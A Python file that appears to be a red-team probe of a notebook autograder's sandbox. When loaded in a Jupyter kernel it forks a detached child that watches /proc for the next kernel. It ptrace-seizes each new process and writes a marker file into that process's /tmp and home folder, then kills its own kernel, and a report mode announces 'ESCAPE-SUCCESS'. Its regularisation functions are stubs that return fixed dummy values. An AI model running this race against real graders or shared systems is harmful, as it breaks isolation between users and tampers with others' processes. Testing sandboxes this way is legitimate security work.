"""Attack: a process of this kernel waits for the next kernel and catches it before it drops its capabilities (see README.md)."""

import ctypes
import os
import sys
import time

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
NOTE = "planted-by-a-racer"
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _race():
    """Poll /proc for 15 s; for every new process: seize it, and write into its /tmp and working folder."""
    seen = {p for p in os.listdir("/proc") if p.isdigit()}
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        for pid in [p for p in os.listdir("/proc") if p.isdigit() and p not in seen]:
            seen.add(pid)
            if libc.ptrace(PTRACE_SEIZE, int(pid), None, None) == 0:
                for where in ("tmp", "home/student"):
                    try:
                        with open(f"/proc/{pid}/root/{where}/{NOTE}", "w") as handle:
                            handle.write(f"seized {pid}")
                    except OSError:
                        pass
                libc.ptrace(PTRACE_DETACH, int(pid), None, None)
        time.sleep(0.0005)


def _report():
    found = [where for where in ("/tmp", "/home/student") if os.path.exists(f"{where}/{NOTE}")]
    if found:
        _say(f"{MARK} a process of the dead kernel reached this kernel: {found}")
    else:
        _say("nothing of the racer here")


if "ipykernel" in sys.modules:
    if os.environ.pop("DLCV_REPORT_ONLY", None):
        _report()
    else:
        if os.fork() == 0:
            os.setsid()
            try:
                _race()
            finally:
                os._exit(0)
        time.sleep(0.1)
        _say("racer started; ending this kernel: the grader starts the next one")
        os._exit(1)
